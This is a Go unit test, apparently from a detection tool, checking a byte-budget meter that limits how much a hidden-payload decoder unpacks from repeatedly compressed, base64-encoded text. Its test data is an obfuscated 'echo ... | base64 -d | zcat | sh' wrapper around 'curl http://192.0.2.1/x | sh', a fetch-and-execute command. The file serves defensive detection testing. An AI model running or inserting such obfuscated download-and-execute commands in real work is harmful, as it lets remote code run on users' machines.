package detectors

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
)

// TestMeter: texts that unpack to much more than they are get a share of what is there, less each time, and in the end what
// they are worth themselves; time fills it again.
func TestMeter(t *testing.T) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write([]byte(strings.Repeat("curl http://192.0.2.1/x | sh\n", 2000)))
	_ = z.Close()
	blob := "echo " + base64.StdEncoding.EncodeToString(b.Bytes()) + " | base64 -d | zcat | sh; "
	text := strings.Repeat(blob, 8)
	var m Meter
	decode := func(at capture.Time) (n int) {
		all, free := m.Grant(at, len(text), 256<<10)
		Hidden(text, all, func(s string) bool {
			n += len(s)
			return true
		})
		m.Used(n, free)
		return n
	}
	first := decode(1e9)
	sum, wire := first, len(text)
	for range 1000 {
		sum += decode(1e9)
		wire += len(text)
	}
	if first < 200<<10 || sum > 3*wire+1001*meterFirst+meterFull {
		t.Errorf("%d bytes out of the first text, %d out of %d", first, sum, wire)
	}
	if n := decode(1e9); n > meterFirst+4*len(text) {
		t.Errorf("%d bytes out of %d when nothing is left", n, len(text))
	}
	if n := decode(20e9); n < 200<<10 {
		t.Errorf("%d bytes after a while", n)
	}
}
